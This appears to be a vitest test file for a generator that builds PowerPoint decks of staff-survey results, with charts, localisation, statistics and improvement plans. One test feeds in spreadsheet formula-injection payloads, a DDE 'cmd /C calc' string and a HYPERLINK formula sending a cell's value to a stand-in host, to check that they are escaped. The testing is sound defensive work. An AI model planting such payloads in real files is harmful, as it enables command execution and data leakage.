import { writeFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import JSZip from 'jszip';
import type { Locale } from '$lib/i18n';
import { round2 } from '$lib/results/colour';
import { formatMonth, score, signed } from '$lib/results/format';
import { textWidth } from '$lib/charts/colours';
import type { ReportData } from './data';
import { ACTION_TITLE, auditReport, publishedReport } from '$tests/report';
import { renderDeck } from './deck';
import { fixtureAdvice, useModelsWithFullAdvice } from '$tests/full-advice';
import { translator } from '$lib/i18n';

// SOS 1.0 with full advice added, in a temporary folder: the deck shows the advice that fits each score.
useModelsWithFullAdvice();

let reports: Record<Locale, ReportData>;
const decks = {} as Record<Locale, { charts: string[]; slides: string[] }>;

const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** The numbers a chart holds (its <c:v> values that are numbers). */
const chartValues = (xml: string) => [...xml.matchAll(/<c:v>(-?\d+(?:\.\d+)?)<\/c:v>/g)].map((m) => Number(m[1]));

async function open(deck: Buffer) {
	const zip = await JSZip.loadAsync(deck);
	const read = (pattern: RegExp) =>
		Promise.all(
			Object.keys(zip.files)
				.filter((f) => pattern.test(f))
				.sort()
				.map((f) => zip.file(f)!.async('string'))
		);
	return { charts: await read(/^ppt\/charts\/chart\d+\.xml$/), slides: await read(/^ppt\/slides\/slide\d+\.xml$/) };
}

beforeAll(async () => {
	reports = await publishedReport(['en', 'sv']);
	for (const locale of ['en', 'sv'] as const) {
		const deck = await renderDeck(reports[locale]);
		if (process.env.REPORT_OUT) writeFileSync(`${process.env.REPORT_OUT}/report-${locale}.pptx`, deck);
		decks[locale] = await open(deck);
	}
}, 120_000);

describe('the PowerPoint deck', () => {
	it('has native bar, radar and line charts holding the area scores as shown', () => {
		const { charts } = decks.en;
		const r = reports.en.results;
		expect(charts.some((c) => c.includes('<c:barChart>') && c.includes('<c:lineChart>'))).toBe(true);
		expect(charts.some((c) => c.includes('<c:radarChart>'))).toBe(true);
		expect(charts.filter((c) => c.includes('<c:lineChart>')).length).toBeGreaterThanOrEqual(2);
		const areaChart = charts.find((c) => c.includes('<c:barChart>') && c.includes('<c:lineChart>'))!;
		const held = chartValues(areaChart);
		for (const a of r.areas) {
			expect(held).toContain(round2(a.score!));
			if (a.benchmark !== null) expect(held).toContain(round2(a.benchmark));
		}
		const trendChart = charts.find((c) => c.includes('<c:lineChart>') && !c.includes('<c:barChart>'))!;
		const last = reports.en.trend.rounds.at(-1)!;
		for (const a of last.areas) if (a.score !== null) expect(chartValues(trendChart)).toContain(round2(a.score));
	});

	it('names the unit, every area, the benchmark and the open actions on its slides', () => {
		const all = decks.en.slides.join('\n');
		const r = reports.en.results;
		expect(all).toContain(xmlText(r.unit.name));
		for (const a of r.areas) expect(all).toContain(xmlText(a.name));
		expect(all).toContain(xmlText(r.benchmark.label!));
		expect(all).toContain(xmlText(r.improvements[0].actions[0].slice(0, 40)));
		expect(all).toContain(ACTION_TITLE);
		expect(all).toContain('Below benchmark');
	});

	it('gives each improvement area a slide with the advice for its level and the lowest statements’ own advice', () => {
		const { slides } = decks.en;
		const r = reports.en.results;
		const xml = (s: string) => xmlText(s).replace(/'/g, '&apos;').replace(/"/g, '&quot;');
		expect(r.improvements.length).toBeGreaterThan(0);
		for (const imp of r.improvements) {
			const slide = slides.find((x) => x.includes(xml(r.areas.find((a) => a.key === imp.key)!.name)) && x.includes(xml(imp.summary)));
			expect(slide).toBeDefined();
			for (const key of imp.lowestStatements) {
				const st = r.statements.find((s) => s.key === key)!;
				if (st.advice) expect(slide).toContain(xml(st.advice));
			}
		}
	});

	it('holds no figure the results page does not show, and shows a hidden one as – with its reason', () => {
		const data = reports.en;
		const r = data.results;
		const figures = [
			r.high,
			...r.areas.flatMap((a) => [a.score, a.benchmark]),
			...(r.gap?.areas.flatMap((g) => Object.values(g.scores)) ?? []),
			...data.trend.rounds.flatMap((x) => x.areas.map((a) => a.score))
		];
		const counts = r.questions.flatMap((q) => ('options' in q ? (q.options ?? []).map((o) => o.count) : []));
		const allowed = new Set([...figures.filter((v): v is number => v !== null).map(round2), ...counts]);
		// Scale points without a label of their own ("2") are category names, not figures.
		const scalePoint = (v: number) => [1, 2, 3, 4, 5].includes(v);
		for (const chart of decks.en.charts) expect(chartValues(chart).filter((v) => !allowed.has(v) && !scalePoint(v))).toEqual([]);
		const all = decks.en.slides.join('\n');
		expect(all).toContain('hidden: fewer than 5 respondents');
		expect(all).toMatch(/Team Liten[\s\S]*?<a:t>–<\/a:t>/);
	});

	it('neutralizes formula-like names in the workbooks behind its charts', async () => {
		const data = reports.en;
		const r = data.results;
		const evil = (s: string) => `=HYPERLINK("http://x.example/"&A1,"${s}")`;
		const hostile: ReportData = {
			...data,
			results: {
				...r,
				unit: { ...r.unit, name: "+cmd|' /C calc'!A0" },
				areas: r.areas.map((a) => ({ ...a, name: evil(a.name) })),
				questions: r.questions.map((q) => ('options' in q && q.options ? { ...q, options: q.options.map((o) => ({ ...o, label: `@${o.label}` })) } : q))
			},
			trend: {
				...data.trend,
				areas: data.trend.areas.map((a) => ({ ...a, name: `-${a.name}` })),
				// A round without a date is labelled by its name on the trend chart.
				rounds: data.trend.rounds.map((x, i) => ({ ...x, name: `\t${x.name}`, closedAt: i === 0 ? null : x.closedAt }))
			}
		};
		const zip = await JSZip.loadAsync(await renderDeck(hostile));
		const books = Object.keys(zip.files).filter((f) => /^ppt\/embeddings\/.*\.xlsx$/.test(f));
		expect(books.length).toBeGreaterThanOrEqual(4);
		const texts: string[] = [];
		for (const f of books) {
			const book = await JSZip.loadAsync(await zip.file(f)!.async('nodebuffer'));
			for (const part of ['xl/sharedStrings.xml', 'xl/tables/table1.xml']) {
				const xml = (await book.file(part)?.async('string')) ?? '';
				texts.push(...[...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((m) => m[1]), ...[...xml.matchAll(/ name="([^"]*)"/g)].map((m) => m[1]));
			}
		}
		const unescape = (s: string) =>
			s
				.replace(/&quot;/g, '"')
				.replace(/&apos;/g, "'")
				.replace(/&lt;/g, '<')
				.replace(/&gt;/g, '>')
				.replace(/&amp;/g, '&');
		const all = texts.map(unescape);
		// The hostile names are there, as text: each behind an apostrophe.
		expect(all).toContain(`'${evil(r.areas[0].name)}`);
		expect(all).toContain(`'+cmd|' /C calc'!A0`);
		expect(all.some((s) => s.startsWith("'@"))).toBe(true);
		expect(all.some((s) => s.startsWith("'\t"))).toBe(true);
		expect(all.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
	});

	it('is in Swedish for a Swedish reader, with decimal commas in its tables', () => {
		const all = decks.sv.slides.join('\n');
		const r = reports.sv.results;
		expect(all).toContain('Sammanfattning');
		expect(all).toContain('Team Åre');
		for (const a of r.areas) expect(all).toContain(xmlText(a.name));
		const first = score(r.areas[0].score, 'sv');
		expect(first).toMatch(/^\d,\d\d$/);
		expect(all).toContain(`<a:t>${first}</a:t>`);
	});
});

/** As the page's area table writes an area's n and interval ("n = 38 · 90 %: 3.10–3.50"), escaped as a slide holds it. */
const intervalAsOnPage = (a: ReportData['results']['areas'][number], locale: Locale) =>
	xmlText(translator(locale)('results.interval.short', { n: a.n!, low: score(a.interval!.low, locale), high: score(a.interval!.high, locale) }));

describe('the deck’s statistics and plans', () => {
	it('shows each area’s n and 90 % interval in the areas table exactly as the page, and none for an area hidden on the page', async () => {
		for (const locale of ['en', 'sv'] as const) {
			const slide = decks[locale].slides.find((x) => x.includes(`<a:t>${xmlText(translator(locale)('results.areas.title'))}</a:t>`))!;
			for (const a of reports[locale].results.areas) {
				expect(a.interval).not.toBeNull();
				expect(slide).toContain(`<a:t>${intervalAsOnPage(a, locale)}</a:t>`);
			}
		}
		const data = structuredClone(reports.en);
		const a = data.results.areas[0];
		const shown = intervalAsOnPage(a, 'en');
		expect(data.results.areas.filter((x) => intervalAsOnPage(x, 'en') === shown)).toHaveLength(1);
		Object.assign(a, { score: null, difference: null, status: null, rank: null, n: null, interval: null, inLine: false });
		data.results.strengths = data.results.strengths.filter((k) => k !== a.key);
		data.results.improvements = data.results.improvements.filter((i) => i.key !== a.key);
		const { slides } = await open(await renderDeck(data));
		expect(slides.join('\n')).not.toContain(shown);
		expect(slides.join('\n')).not.toContain(`(n = ${reports.en.results.areas[0].n}, 90`);
	}, 60_000);

	it('says "in line with benchmark" for a red or yellow score whose interval holds the benchmark, as the page’s chip does', async () => {
		const t = translator('en');
		const data = structuredClone(reports.en);
		const red = data.results.areas.find((a) => a.status === 'red')!;
		for (const a of data.results.areas) a.inLine = a === red;
		const all = (await open(await renderDeck(data))).slides.join('\n');
		const card = data.results.improvements.some((i) => i.key === red.key);
		// In the table; on the area's improvement slide and its plan slide too.
		expect(all.split(t('results.status.inLine')).length - 1).toBe(card ? 3 : 1);
		for (const a of data.results.areas) a.inLine = false;
		expect((await open(await renderDeck(data))).slides.join('\n')).not.toContain(t('results.status.inLine'));
	}, 60_000);

	it('gives each improvement area a slide with its 30/60/90-day plan, agenda and pitfalls as its area page shows them', async () => {
		const data = reports.en;
		const t = translator('en');
		const xml = (s: string) => xmlText(s).replace(/'/g, '&apos;').replace(/"/g, '&quot;');
		for (const imp of data.results.improvements) {
			const name = data.results.areas.find((a) => a.key === imp.key)!.name;
			const slide = decks.en.slides.find((x) => x.includes(xml(`${name}: ${t('results.advice.plan')}`)));
			expect(slide, name).toBeDefined();
			const advice = data.advice[imp.key];
			expect(advice.agenda).toContain(fixtureAdvice(imp.key, 'en agenda 3'));
			for (const p of ['days30', 'days60', 'days90'] as const) expect(slide).toContain(xml(t(`results.advice.phase.${p}`)));
			for (const text of [...advice.plan!.days30, ...advice.plan!.days60, ...advice.plan!.days90, ...advice.agenda!, ...advice.pitfalls!])
				expect(slide).toContain(`<a:t>${xml(text)}</a:t>`);
		}
		for (const key of data.results.strengths) expect(decks.en.slides.join('\n')).not.toContain(fixtureAdvice(key, 'en days30 first'));
		expect(decks.sv.slides.join('\n')).toContain(xml(fixtureAdvice(data.results.improvements[0].key, 'sv days90')));
		// A model without a plan (1.0): no plan slide, the actions under their old title.
		const plain = structuredClone(data);
		for (const key of Object.keys(plain.advice)) Object.assign(plain.advice[key], { plan: null, agenda: null, pitfalls: null });
		const before = decks.en.slides.length;
		const { slides } = await open(await renderDeck(plain));
		expect(slides.length).toBe(before - data.results.improvements.length);
		expect(slides.join('\n')).not.toContain(xml(t('results.advice.plan')));
		expect(slides.join('\n')).toContain(xml(t('results.improvements.actions')));
	}, 60_000);
	it('sizes the sub-units table so that no header breaks inside a word (English and Swedish)', () => {
		for (const locale of ['en', 'sv'] as const) {
			const t = translator(locale);
			const slide = decks[locale].slides.find((x) => x.includes(xmlText(t('results.heatmap.title'))) && x.includes('<a:tbl>'))!;
			const widths = [...slide.matchAll(/<a:gridCol w="(\d+)"/g)].map((m) => Number(m[1]) / 914_400);
			const header = slide.match(/<a:tr[^>]*>([\s\S]*?)<\/a:tr>/)![1];
			const cells = [...header.matchAll(/<a:tc[^>]*>([\s\S]*?)<\/a:tc>/g)].map((m) => ({
				size: Number(m[1].match(/sz="(\d+)"/)![1]) / 100,
				text: [...m[1].matchAll(/<a:t>([^<]*)<\/a:t>/g)].map((x) => x[1]).join(' ')
			}));
			expect(cells.map((c) => c.text)).toContain(xmlText(reports[locale].results.areas[0].name));
			expect(cells).toHaveLength(widths.length);
			cells.forEach((c, i) => {
				expect(c.size).toBeGreaterThanOrEqual(7);
				// Every word narrower than its column less the margins (the estimate errs wide).
				for (const word of c.text.split(/\s+/)) expect(textWidth(word, c.size)).toBeLessThanOrEqual((widths[i] - 0.08) * 72);
			});
		}
	});

	it('labels the trend chart’s rounds by their closing month, as the page’s axis does, never by a cut round name', () => {
		for (const locale of ['en', 'sv'] as const) {
			const chart = decks[locale].charts.find((c) => c.includes('<c:lineChart>') && !c.includes('<c:barChart>'))!;
			const categories = [...chart.matchAll(/<c:cat>[\s\S]*?<\/c:cat>/g)][0][0];
			for (const r of reports[locale].trend.rounds) {
				expect(categories).toContain(`<c:v>${xmlText(formatMonth(r.closedAt!, locale))}</c:v>`);
				expect(categories).not.toContain(xmlText(r.name));
			}
		}
	});
});

describe('the deck of a round with k above the comment minimum', () => {
	it('states the threshold the comments really need (k, not 10)', async () => {
		const data = structuredClone(reports.en);
		data.results.round.k = 12;
		const q = data.results.questions.find((x) => x.type === 'text')!;
		Object.assign(q, { answered: null, comments: undefined });
		const { slides } = await open(await renderDeck(data));
		expect(slides.join('\n')).toContain(xmlText('Comments are shown only for groups of at least 12 respondents.'));
		expect(slides.join('\n')).not.toContain('at least 10 respondents');
	}, 60_000);

	it('names the organization once in the footer of the organization’s own deck', async () => {
		const top = await publishedReport(['sv'], { organization: true });
		const data = top.sv;
		expect(data.results.unit.isOrganization).toBe(true);
		// The footer is on the slide master (every content slide uses it).
		const zip = await JSZip.loadAsync(await renderDeck(data));
		const masters = await Promise.all(
			Object.keys(zip.files)
				.filter((f) => /^ppt\/slide(Masters|Layouts)\/.*\.xml$/.test(f))
				.map((f) => zip.file(f)!.async('string'))
		);
		expect(masters.join('')).toContain(xmlText(`${data.organization} · ${data.results.round.name}`));
		expect(masters.join('')).not.toContain(xmlText(`${data.organization} · ${data.organization}`));
	}, 120_000);
});

describe('the deck of an ecosystem audit round', () => {
	let data: ReportData;
	let slides: string[];
	const xml = (s: string) => xmlText(s).replace(/'/g, '&apos;').replace(/"/g, '&quot;');
	/** The texts of a slide's runs, in order. */
	const runs = (slide: string) => [...slide.matchAll(/<a:t>([^<]*)<\/a:t>/g)].map((m) => m[1]);
	beforeAll(async () => {
		data = (await auditReport(['en'])).reports.en;
		const deck = await renderDeck(data);
		if (process.env.REPORT_OUT) writeFileSync(`${process.env.REPORT_OUT}/audit-en.pptx`, deck);
		slides = (await open(deck)).slides;
	}, 120_000);

	it('has a slide with the matrix as a table: every area, each cell row minus column as shown, misaligned cells in words', () => {
		const t = translator('en');
		const a = data.alignment!;
		const matrix = slides.filter((s) => s.includes(`<a:t>${xml(t('alignment.matrix.title'))}</a:t>`));
		expect(matrix).toHaveLength(1);
		const texts = runs(matrix[0]);
		for (const x of a.areas) expect(texts).toContain(xml(x.name));
		for (const row of a.matrix) for (const c of row) if (c.difference !== null) expect(texts.join('\n')).toContain(signed(c.difference, 'en'));
		const beyond = a.matrix.flat().filter((c) => c.beyond).length;
		expect(beyond).toBeGreaterThan(0);
		expect(texts.filter((x) => x.startsWith(t('alignment.matrix.beyond')))).toHaveLength(beyond);
		// No figure on it that the alignment page does not show.
		const shown = new Set([
			...a.areas.map((x) => score(x.score, 'en')),
			...a.matrix.flat().map((c) => score(c.difference === null ? null : Math.abs(c.difference), 'en')),
			score(a.threshold, 'en')
		]);
		expect((texts.join(' ').match(/\d+\.\d\d/g) ?? []).filter((n) => !shown.has(n))).toEqual([]);
	});

	it('has the misaligned pairs with their symptom and the leadership behaviours to prioritise', () => {
		const t = translator('en');
		const flagged = data.alignment!.pairs.filter((p) => p.flagged);
		const pairSlides = slides.filter((s) => s.includes(`<a:t>${xml(t('alignment.pairs.title'))}</a:t>`));
		expect(pairSlides.length).toBeGreaterThan(0);
		const all = pairSlides.join('\n');
		for (const p of flagged) {
			expect(all).toContain(xml(p.symptom));
			for (const b of p.behaviours) expect(all).toContain(xml(b));
			expect(all).toContain(signed(p.difference, 'en'));
		}
		for (const p of data.alignment!.pairs.filter((x) => !x.flagged)) expect(all).not.toContain(xml(p.symptom));
	});

	it('has no alignment slides for the SOS model', () => {
		const t = translator('en');
		expect(decks.en.slides.some((s) => s.includes(xml(t('alignment.matrix.title'))) || s.includes(xml(t('alignment.pairs.behaviours'))))).toBe(false);
	});
});
